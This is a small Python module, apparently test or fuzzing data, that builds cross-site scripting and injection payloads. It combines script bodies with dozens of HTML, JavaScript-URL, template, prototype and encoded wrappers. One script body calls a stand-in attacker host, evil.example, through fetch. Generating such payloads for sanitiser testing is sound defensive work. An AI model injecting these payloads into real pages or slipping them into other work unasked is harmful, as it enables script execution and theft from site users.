"""Names that would run a script in a page that takes them for markup, an address or code."""

from itertools import islice, product

_SCRIPTS = ("window.pwned=1", "alert(1)", "document.body.remove()", "fetch('http://evil.example')")
_WRAPS = (
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    "<svg onload='{}'>",
    "<svg/onload={}>",
    "<body onload={}>",
    '<iframe srcdoc="<script>parent.{}</script>">',
    '<iframe src="javascript:{}">',
    '<a href="javascript:{}">click</a>',
    "<math><mtext></table><img src=x onerror={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    '<video><source onerror="{}">',
    '<object data="javascript:{}">',
    "<marquee onstart={}>",
    "<style>@import 'javascript:{}';</style>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "-->{}<!--",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "`${{{}}}`",
    "';{};//",
    '\\";{};//',
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "__proto__[{}]",
    "<b onmouseover={}>bold</b>",
    "<br><i>x</i><a href='javascript:{}'>y</a>",
    "\u2028{}\u2029",
    "\u202e<script>{}</script>",
    "%{{customdata[0]}}<script>{}</script>",
    "params.value;{}",
)
_ENDS = ("", " ", "<!--")


def payloads(count):
    """So many, no two alike."""
    made = (wrap.format(script) + end for end, wrap, script in product(_ENDS, _WRAPS, _SCRIPTS))
    return list(islice(made, count))
